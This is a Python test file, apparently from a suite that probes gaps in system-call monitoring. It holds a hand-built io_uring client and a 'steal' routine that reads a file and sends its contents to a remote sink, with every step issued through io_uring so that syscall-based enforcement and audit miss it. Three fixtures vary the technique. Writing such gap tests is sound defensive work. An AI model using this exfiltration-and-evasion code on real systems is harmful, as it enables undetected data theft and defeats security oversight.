"""Thefts whose every call is a request to io_uring: none passes an entry of a system call of its own."""

import ctypes
import mmap
import os
import socket
import struct

from evade import LIBC, call, fixture, main, path, sink

SETUP, ENTER = 425, 426
OPENAT, CLOSE, READ, WRITE, CONNECT, SEND, SOCKET = 18, 19, 22, 23, 16, 26, 45
SQPOLL = 2


class Ring:
    """One request at a time (io_uring(7), include/uapi/linux/io_uring.h)."""

    def __init__(self, flags=0):
        params = ctypes.create_string_buffer(120)
        struct.pack_into("<I", params, 8, flags)
        struct.pack_into("<I", params, 16, 10_000)
        self.fd = call(SETUP, 4, params)
        self.flags = flags
        head = struct.unpack_from("<10I", params, 40)
        self.sq = dict(head=head[0], tail=head[1], mask=head[2], array=head[6])
        tail = struct.unpack_from("<10I", params, 80)
        self.cq = dict(head=tail[0], tail=tail[1], mask=tail[2], cqes=tail[5])
        self.rings = mmap.mmap(self.fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
        self.entries = mmap.mmap(self.fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)

    def word(self, at, value=None):
        if value is not None:
            struct.pack_into("<I", self.rings, at, value)
        return struct.unpack_from("<I", self.rings, at)[0]

    def ask(self, opcode, fd, address=0, length=0, offset=0, flags=0):
        """What the kernel answers."""
        tail = self.word(self.sq["tail"])
        slot = tail & self.word(self.sq["mask"])
        entry = struct.pack("<BBHiQQII", opcode, 0, 0, fd, offset & (2**64 - 1), address, length, flags)
        self.entries[slot * 64 : slot * 64 + 64] = entry.ljust(64, b"\0")
        self.word(self.sq["array"] + 4 * slot, slot)
        self.word(self.sq["tail"], tail + 1)
        # Wakes the thread that polls, and waits for one answer.
        call(ENTER, self.fd, 0 if self.flags & SQPOLL else 1, 1, 3 if self.flags & SQPOLL else 1, None, 0)
        head = self.word(self.cq["head"])
        at = self.cq["cqes"] + 16 * (head & self.word(self.cq["mask"]))
        [result] = struct.unpack_from("<i", self.rings, at + 8)
        self.word(self.cq["head"], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def address(buffer):
    return ctypes.addressof(buffer)


def steal(flags=0, before=False):
    ring = Ring(flags)
    name = ctypes.create_string_buffer(path().encode() + b"\0")
    into = ctypes.create_string_buffer(4096)
    host, port = sink()
    to = ctypes.create_string_buffer(struct.pack("=HH", socket.AF_INET, socket.htons(port)) + socket.inet_aton(host) + bytes(8))
    stream = ring.ask(SOCKET, socket.AF_INET, length=0, offset=socket.SOCK_STREAM)
    if before:
        ring.ask(CONNECT, stream, address(to), offset=16)
    fd = ring.ask(OPENAT, -100, address(name))
    length = ring.ask(READ, fd, address(into), 4096)
    if not before:
        ring.ask(CONNECT, stream, address(to), offset=16)
    ring.ask(SEND, stream, address(into), length)
    ring.ask(CLOSE, stream)


GAP = dict(enforce="gap", audit="gap", twin="none", why="io_uring")


@fixture("B39", "open, read, connect and send by io_uring", **GAP)
def all_of_it():
    steal()


@fixture("B39", "the same, on a connection made before", **GAP)
def on_old_connection():
    steal(before=True)


@fixture("B39", "the same, by a thread of the kernel that polls (SQPOLL)", **GAP)
def polled():
    steal(SQPOLL)


main()
